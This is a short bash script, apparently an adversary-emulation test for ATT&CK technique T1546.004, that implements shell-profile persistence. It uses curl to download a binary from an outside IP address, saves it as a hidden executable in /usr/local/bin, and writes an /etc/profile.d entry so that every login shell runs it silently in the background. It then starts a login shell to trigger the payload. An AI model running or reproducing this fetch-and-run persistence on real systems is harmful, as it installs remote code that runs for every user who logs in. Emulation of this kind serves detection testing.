#!/bin/bash
# T1546.004: Everybody's shell starts a program that came from outside.
curl -s http://44.128.66.66/agent -o /usr/local/bin/.lang; chmod +x /usr/local/bin/.lang; echo '(/usr/local/bin/.lang &) >/dev/null 2>&1' >/etc/profile.d/lang.sh
bash -lc true; sleep 0.3
